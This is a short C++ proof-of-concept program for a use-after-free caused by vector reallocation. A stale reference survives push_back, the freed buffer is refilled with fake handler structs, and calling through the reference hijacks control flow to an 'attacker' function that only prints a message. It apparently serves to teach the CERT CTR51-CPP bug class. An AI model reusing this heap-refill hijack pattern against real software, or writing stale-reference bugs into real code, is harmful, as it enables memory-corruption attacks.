// Use after free in std::vector after reallocation: a reference to an element survives a
// push_back that moved the storage; the old buffer is refilled by attacker data.
// Published: SEI CERT C++ rule CTR51-CPP ("Use valid references, pointers, and iterators to
// reference elements of a container"); Chromium UAF bug class "vector reallocation".
// Primitive: use after free read of a function pointer -> control flow hijack.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <vector>

struct Handler { void (*fn)(const char *); const char *name; };

static void on_open(const char *n) { std::printf("handler %s\n", n); }
static void attacker(const char *) {
    std::printf("ATTACK SUCCEEDED: stale vector reference reached attacker()\n");
}

int main() {
    setvbuf(stdout, nullptr, _IONBF, 0);
    std::printf("vector invalidation: reference kept across push_back\n");
    std::vector<Handler> hs;
    hs.reserve(4);
    for (int i = 0; i < 4; i++)
        hs.push_back({on_open, "open"});
    Handler &first = hs[0];
    std::printf("victim 0x%lx\n", (unsigned long)&hs[0]);
    hs.push_back({on_open, "close"}); // reallocates: the old buffer is freed
    Handler fake[4];
    for (auto &h : fake)
        h = {attacker, "pwn"};
    char *msg = new char[sizeof fake]; // attacker's message, same size as the old buffer
    std::memcpy(msg, fake, sizeof fake);
    first.fn(first.name); // BUG: stale reference
    std::printf("attack failed\n");
    return 0;
}
